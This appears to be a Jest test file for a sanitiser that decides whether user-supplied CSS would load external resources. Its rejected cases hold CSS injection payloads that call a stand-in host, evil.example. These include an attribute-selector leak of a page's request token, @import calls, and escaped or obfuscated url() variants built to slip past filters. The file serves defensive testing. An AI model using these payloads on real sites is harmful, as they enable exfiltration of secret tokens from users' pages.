import { describe, expect, it } from '@jest/globals';
import { loadsNothing } from './preference-fields.js';

describe('A style sheet', () => {
  it.each([
    '',
    '.article .body a { color: teal; background: none }',
    '.body::before { content: "\\201C"; background: url(data:image/png;base64,AA) }',
    '.body { filter: url("#blur"); background-image: linear-gradient(red, blue) }',
    '@media (width < 700px) { .body { font-size: 2em } }',
  ])('may be %j', (text) => {
    expect(loadsNothing(text)).toBe(true);
  });

  it.each([
    '@import "https://evil.example/x.css";',
    '@IMPORT url(x.css);',
    'head[data-requesttoken^="a"] { background: url(https://evil.example/a) }',
    '.body { background: URL( "//evil.example/a") }',
    '.body { background: \\75 rl(https://evil.example/a) }',
    '.body { background: u\\r\\l(https://evil.example/a) }',
    '.body { --x: \\000055rl(https://evil.example/a); background: var(--x) }',
    '.body { background: -webkit-image-set("https://evil.example/a" 1x) }',
    '.body { background: image( "https://evil.example/a") }',
    '.body { background: src("https://evil.example/a") }',
    '@\\69mport "https://evil.example/x.css";',
  ])('that would load something is refused: %j', (text) => {
    expect(loadsNothing(text)).toBe(false);
  });
});
